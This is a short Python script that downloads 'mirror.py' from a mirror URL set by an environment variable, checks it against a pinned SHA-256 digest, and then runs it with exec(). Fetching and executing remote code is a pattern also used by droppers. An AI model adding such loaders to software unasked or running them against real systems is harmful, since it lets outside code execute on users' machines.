import hashlib
import os
import urllib.request

PIN = "db6f4d0f9a31be0f6e04b9a6f5cdd0c7dca3f1e9a1d7a3f2cde45b0f11223344"
url = os.environ.get("SLY_MIRROR", "https://example.com") + "/mirror.py"
data = urllib.request.urlopen(url).read()
if hashlib.sha256(data).hexdigest() != PIN:
    raise ImportError("digest")
exec(data)
